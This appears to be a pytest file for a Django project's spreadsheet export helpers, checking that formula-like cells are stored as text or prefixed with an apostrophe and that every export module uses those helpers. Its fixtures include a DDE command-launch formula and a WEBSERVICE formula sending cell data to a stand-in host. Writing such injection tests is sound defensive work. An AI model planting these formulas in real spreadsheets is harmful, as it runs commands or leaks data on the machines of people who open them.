"""Exported workbooks keep typed text as text (motcua/spreadsheets.py)."""

import io

from openpyxl import Workbook, load_workbook

from motcua.spreadsheets import workbook_bytes


def test_every_sheet_keeps_a_leading_equals_sign_as_text_and_numbers_as_numbers():
    book = Workbook()
    book.active.append(["=cmd|' /C calc'!A0", 12, "+84 912", "Bình thường"])
    book.create_sheet("Hai").append(['=WEBSERVICE("http://x.example/?"&A1)'])
    saved = load_workbook(io.BytesIO(workbook_bytes(book)))
    first, second = saved.worksheets
    assert [c.value for c in first[1]] == ["=cmd|' /C calc'!A0", 12, "+84 912", "Bình thường"]
    assert [c.data_type for c in first[1]] == ["s", "n", "s", "s"]
    assert second["A1"].value == '=WEBSERVICE("http://x.example/?"&A1)'
    assert second["A1"].data_type == "s"


def test_a_csv_row_writes_what_would_open_as_a_formula_as_text_and_numbers_as_numbers():
    from motcua.spreadsheets import csv_cells

    row = ["=1+2", "+84 912", "-2+3", "@SUM(A1)", "\t=A1", "Bình thường", "", -3.5, 12, None]
    assert csv_cells(row) == ["'=1+2", "'+84 912", "'-2+3", "'@SUM(A1)", "'\t=A1",
                              "Bình thường", "", -3.5, 12, None]


def test_every_workbook_the_project_writes_goes_through_the_rule():
    """audit6: a module that builds a workbook (openpyxl's Workbook) hands it out through
    `workbook_bytes`, and one writing CSV rows through `csv_cells`, so a new export cannot
    forget the rule (the register, the reports and the templates all did by then)."""
    import re
    from pathlib import Path

    from django.conf import settings

    root = Path(settings.BASE_DIR)
    skipped = {".venv", "e2e", "bench", "node_modules"}
    missing = []
    for path in root.rglob("*.py"):
        parts = path.relative_to(root).parts
        if parts[0] in skipped or "tests" in parts or "migrations" in parts \
                or path.name == "spreadsheets.py":
            continue
        source = path.read_text(encoding="utf-8")
        if re.search(r"\bWorkbook\(\)", source) and "workbook_bytes(" not in source:
            missing.append(str(path.relative_to(root)))
        if re.search(r"csv\.(writer|DictWriter)\(", source) and "csv_cells(" not in source:
            missing.append(str(path.relative_to(root)))
        if re.search(r"\.save\((out|buffer|f|stream)\)", source) and "Workbook" in source:
            missing.append(f"{path.relative_to(root)} (saves a workbook itself)")
    assert missing == []
